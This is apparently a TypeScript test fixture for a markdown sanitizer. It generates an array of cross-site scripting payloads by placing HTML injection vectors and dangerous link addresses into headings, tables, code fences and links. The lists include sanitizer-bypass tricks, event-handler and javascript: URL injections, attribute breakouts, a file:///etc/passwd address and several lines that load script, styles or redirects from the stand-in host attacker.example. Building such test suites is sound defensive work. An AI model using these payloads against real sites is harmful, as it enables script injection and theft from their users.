/** Ways to run `hit()` or to call home, each as it would stand in a page. */
const vectors = [
  '<script>hit()</script>',
  '<script src="https://attacker.example/x.js"></script>',
  '<img src=x onerror=hit()>',
  '<img src="https://attacker.example/pixel.png">',
  '<svg/onload=hit()>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg><script href="data:text/javascript,hit()" /></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=hit()>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<iframe src="javascript:parent.hit()"></iframe>',
  '<object data="javascript:hit()"></object>',
  '<embed src="https://attacker.example/e">',
  '<body onload=hit()>',
  '<details open ontoggle=hit()>x</details>',
  '<input autofocus onfocus=hit()>',
  '<video src=x onerror=hit()></video>',
  '<audio src="https://attacker.example/a.mp3" autoplay onerror=hit()>',
  '<marquee onstart=hit()>x</marquee>',
  '<style>@import "https://attacker.example/s.css"; * { background: url(https://attacker.example/b) }</style>',
  '<link rel=stylesheet href="https://attacker.example/l.css">',
  '<meta http-equiv=refresh content="0;url=https://attacker.example/">',
  '<base href="https://attacker.example/">',
  '<form action="https://attacker.example/"><button>x</button></form>',
  '<div style="background:url(https://attacker.example/d)">x</div>',
  '<template shadowrootmode=open><img src=x onerror=hit()></template>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<a href="javascript:hit()">x</a>',
  '<p id=x tabindex=1 onfocus=hit() autofocus>x</p>',
  '<xss style="animation:x" onanimationstart=hit()>',
  '&lt;img src=x onerror=hit()&gt;',
  '&#60;img src=x onerror=hit()&#62;',
  '<<script>hit()//<</script>',
  '<img """><script>hit()</script>">',
  '<!--><img src=x onerror=hit()>-->',
  '<![CDATA[<img src=x onerror=hit()>]]>',
];

/** Addresses that must not become links that run something. */
const addresses = [
  'javascript:hit()',
  'JaVaScRiPt:hit()',
  'java\tscript:hit()',
  ' javascript:hit()',
  '\u0001javascript:hit()',
  'javascript&colon;hit()',
  '&#106;avascript:hit()',
  '&#x6A;avascript:hit()',
  'java&Tab;script:hit()',
  'javascript&#58;hit()',
  'data:text/html,<script>parent.hit()</script>',
  'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==',
  'vbscript:hit()',
  'blob:https://attacker.example/1',
  'file:///etc/passwd',
  'view-source:javascript:hit()',
  'https://user:secret@attacker.example/',
  '//attacker.example/',
  'x" onmouseover="hit()',
  "x' onfocus='hit()' autofocus='",
];

/** The places of a markdown text in which a vector may stand. */
const places: ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `Some **words ${vector} in bold** and on`,
  (vector) => `# ${vector}`,
  (vector) => `- one\n- ${vector}`,
  (vector) => `> ${vector}`,
  (vector) => `| a | b |\n|---|---|\n| ${vector} | x |`,
  (vector) => `\`\`\`html\n${vector}\n\`\`\``,
  (vector) => `\`\`\`${vector}\ncode\n\`\`\``,
  (vector) => `[${vector}](https://example.com)`,
  (vector) => `![${vector}](https://attacker.example/i.png)`,
];

const links: ((address: string) => string)[] = [
  (address) => `[text](${address})`,
  (address) => `[text](<${address}>)`,
  (address) => `![picture](${address})`,
  (address) => `<${address}>`,
  (address) => `[1]: ${address}\n\nA claim [1] and [text][1]`,
  (address) => `[text](https://example.com "title" ${address})`,
];

/** Each is a piece of markdown for itself. */
export const xssPayloads: string[] = [
  ...vectors.flatMap((vector) => places.map((place) => place(vector))),
  ...addresses.flatMap((address) => links.map((link) => link(address))),
];
